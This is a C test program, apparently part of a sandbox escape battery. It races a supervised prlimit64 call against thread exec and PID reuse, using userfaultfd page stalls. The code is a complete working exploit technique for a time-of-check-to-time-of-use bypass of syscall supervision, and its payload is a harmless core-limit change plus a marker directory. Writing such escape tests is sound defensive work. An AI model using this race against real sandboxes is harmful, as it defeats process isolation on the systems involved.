/* SPDX-License-Identifier: ISC */
/*
 * Blind round 15: a judged call whose kernel half the tree holds.  With
 * a userfaultfd (root: /dev/userfaultfd), a page the kernel must read
 * faults until the tree answers.  A thread X execs with its argument on
 * such a page: its execve stop is passed, and it waits in the kernel
 * before the exec frees its id.  Another process calls prlimit64(X) with
 * the new limit on a second such page: X is a thread of the tree when
 * the call is judged, and the kernel looks X up only after it has read
 * the limit.  The exec is let go on (X's id is freed), an outside process
 * is given X (the harness, through ns_last_pid), then the limit is
 * answered: prlimit64 sets the outside process's core limit.
 *
 * usage: escape_uffd MARK DIR
 * The harness (battery.sh, pid_reuse_victim) waits for DIR/tid, makes an
 * outside process with that id once it is free and writes its pid to
 * DIR/victim.  MARK is made when the outside process's core limit is the
 * one set.  Exit 0 MARK made, 3 not.
 */
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define LIMIT 12345

static int go[2];		/* the exec thread waits on it */
static char *held_arg;		/* its argument: on a faulting page */

static int
uffd_new(void)
{
	struct uffdio_api api = { .api = UFFD_API };
	int fd, dev;

	if ((fd = (int)syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK)) == -1) {
		if ((dev = open("/dev/userfaultfd", O_RDWR | O_CLOEXEC)) == -1)
			return -1;
		fd = ioctl(dev, USERFAULTFD_IOC_NEW, O_CLOEXEC | O_NONBLOCK);
		close(dev);
	}
	if (fd == -1 || ioctl(fd, UFFDIO_API, &api) == -1)
		return -1;
	return fd;
}

/* A page whose first touch faults to fd. */
static char *
faulting_page(int fd)
{
	char *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
	    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	struct uffdio_register r = {
		.range = { (unsigned long)p, 4096 },
		.mode = UFFDIO_REGISTER_MODE_MISSING,
	};

	if (p == MAP_FAILED || ioctl(fd, UFFDIO_REGISTER, &r) == -1)
		exit(3);
	return p;
}

static void
fault_wait(int fd)
{
	struct pollfd p = { fd, POLLIN, 0 };
	struct uffd_msg m;

	/* not readable: the faulting process has gone (killed, refused) */
	if (poll(&p, 1, 20000) != 1 || !(p.revents & POLLIN) ||
	    read(fd, &m, sizeof(m)) != sizeof(m))
		exit(3);
}

static void
answer(int fd, char *page, const void *data, size_t len)
{
	static char src[4096] __attribute__((aligned(4096)));
	struct uffdio_copy c = {
		.dst = (unsigned long)page, .src = (unsigned long)src,
		.len = 4096,
	};

	memset(src, 0, sizeof(src));
	memcpy(src, data, len);
	if (ioctl(fd, UFFDIO_COPY, &c) == -1)
		exit(3);
}

static void
send_fd(int sock, int fd, const void *data, size_t len)
{
	char cb[CMSG_SPACE(sizeof(int))];
	struct iovec io = { (void *)data, len };
	struct msghdr m = { .msg_iov = &io, .msg_iovlen = 1,
	    .msg_control = cb, .msg_controllen = sizeof(cb) };
	struct cmsghdr *c = CMSG_FIRSTHDR(&m);

	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(c), &fd, sizeof(int));
	if (sendmsg(sock, &m, 0) == -1)
		exit(3);
}

static int
recv_fd(int sock, void *data, size_t len)
{
	char cb[CMSG_SPACE(sizeof(int))];
	struct iovec io = { data, len };
	struct msghdr m = { .msg_iov = &io, .msg_iovlen = 1,
	    .msg_control = cb, .msg_controllen = sizeof(cb) };
	int fd;

	if (recvmsg(sock, &m, 0) <= 0 || CMSG_FIRSTHDR(&m) == NULL)
		exit(3);
	memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof(int));
	return fd;
}

static void *
exec_thread(void *arg)
{
	char *argv[] = { "sleep", held_arg, NULL };
	char c;

	(void)arg;
	if (read(go[0], &c, 1) != 1)
		_exit(3);
	execv("/bin/sleep", argv);
	_exit(3);
}

static int
read_int(const char *path)
{
	FILE *f = fopen(path, "r");
	int v = 0;

	if (f != NULL) {
		if (fscanf(f, "%d", &v) != 1)
			v = 0;
		fclose(f);
	}
	return v;
}

static void
write_int(const char *path, int v)
{
	char tmp[4200];
	FILE *f;

	snprintf(tmp, sizeof(tmp), "%s.tmp", path);
	if ((f = fopen(tmp, "w")) == NULL)
		exit(3);
	fprintf(f, "%d\n", v);
	if (fclose(f) != 0 || rename(tmp, path) != 0)
		exit(3);
}

/* Whether process pid's core limit is LIMIT. */
static int
core_limit_set(int pid)
{
	char path[64], line[256];
	unsigned long soft = 0;
	int hit = 0;
	FILE *f;

	snprintf(path, sizeof(path), "/proc/%d/limits", pid);
	if ((f = fopen(path, "r")) == NULL)
		return 0;
	while (fgets(line, sizeof(line), f) != NULL)
		if (sscanf(line, "Max core file size %lu", &soft) == 1)
			hit = soft == LIMIT;
	fclose(f);
	return hit;
}

int
main(int argc, char **argv)
{
	char tidp[4096], victimp[4096];
	struct rlimit *lim;
	struct { pid_t x; char *arg; } msg;
	int sock[2], ready[2], ua, ub, victim = 0;
	pid_t p, h;

	if (argc != 3)
		return 2;
	snprintf(tidp, sizeof(tidp), "%s/tid", argv[2]);
	snprintf(victimp, sizeof(victimp), "%s/victim", argv[2]);
	if (pipe(go) == -1 || pipe(ready) == -1 ||
	    socketpair(AF_UNIX, SOCK_STREAM, 0, sock) == -1)
		return 3;
	if ((p = fork()) == 0) {
		/* P: its thread X will exec, held in the kernel */
		pthread_t t;

		if ((ua = uffd_new()) == -1)
			_exit(3);
		held_arg = faulting_page(ua);
		if (pthread_create(&t, NULL, exec_thread, NULL) != 0)
			_exit(3);
		msg.arg = held_arg;
		msg.x = 0;
		for (int i = 0; i < 200 && msg.x == 0; i++) {
			char path[64];

			for (pid_t k = getpid() + 1; k < getpid() + 64; k++) {
				snprintf(path, sizeof(path), "/proc/%d/task/%d",
				    getpid(), k);
				if (access(path, F_OK) == 0) {
					msg.x = k;
					break;
				}
			}
			usleep(5000);
		}
		send_fd(sock[1], ua, &msg, sizeof(msg));
		pause();
		_exit(3);
	}
	if (p == -1)
		return 3;
	close(sock[1]);		/* P's end alone: its exit ends the wait */
	ua = recv_fd(sock[0], &msg, sizeof(msg));
	if (msg.x <= 0 || (ub = uffd_new()) == -1)
		return 3;
	lim = (struct rlimit *)faulting_page(ub);
	if ((h = fork()) == 0) {
		/* H: answers the faults in the order that frees X */
		struct rlimit want = { LIMIT, LIMIT };

		if (write(go[1], "g", 1) != 1)
			_exit(3);
		fault_wait(ua);		/* X in its exec, past its stop */
		if (write(ready[1], "m", 1) != 1)
			_exit(3);
		fault_wait(ub);		/* prlimit64(X) judged, held */
		answer(ua, msg.arg, "30", 3);
		write_int(tidp, msg.x);	/* the harness: X, once free */
		for (int i = 0; i < 400 && victim <= 0; i++) {
			victim = read_int(victimp);
			usleep(50000);
		}
		answer(ub, (char *)lim, &want, sizeof(want));
		_exit(0);
	}
	close(ready[1]);
	{
		char c;

		if (h == -1 || read(ready[0], &c, 1) != 1) {
			kill(p, SIGKILL);
			return 3;
		}
	}
	if (syscall(SYS_prlimit64, msg.x, RLIMIT_CORE, lim, NULL) != 0) {
		kill(p, SIGKILL);
		return 3;
	}
	waitpid(h, NULL, 0);
	victim = read_int(victimp);
	kill(p, SIGKILL);
	if (victim == msg.x && core_limit_set(victim)) {
		mkdir(argv[1], 0755);
		return 0;
	}
	return 3;
}
